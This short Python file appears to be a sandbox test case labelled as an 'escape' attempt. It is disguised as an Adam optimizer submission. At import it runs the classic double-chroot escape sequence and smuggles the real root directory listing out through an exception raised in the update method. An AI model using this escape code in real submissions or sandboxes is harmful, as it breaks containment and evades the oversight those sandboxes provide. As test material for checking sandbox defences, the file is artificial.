# expect: wrong error
# family: escape
# exercise: adam
# Leaves a changed root by the classic steps: a second chroot with the working folder outside.
import os

RESULTS = []
try:
    os.mkdir("jail")
    here = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    RESULTS.append(os.listdir("/"))
except OSError as error:
    RESULTS.append(str(error))


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        raise LookupError(repr(RESULTS))
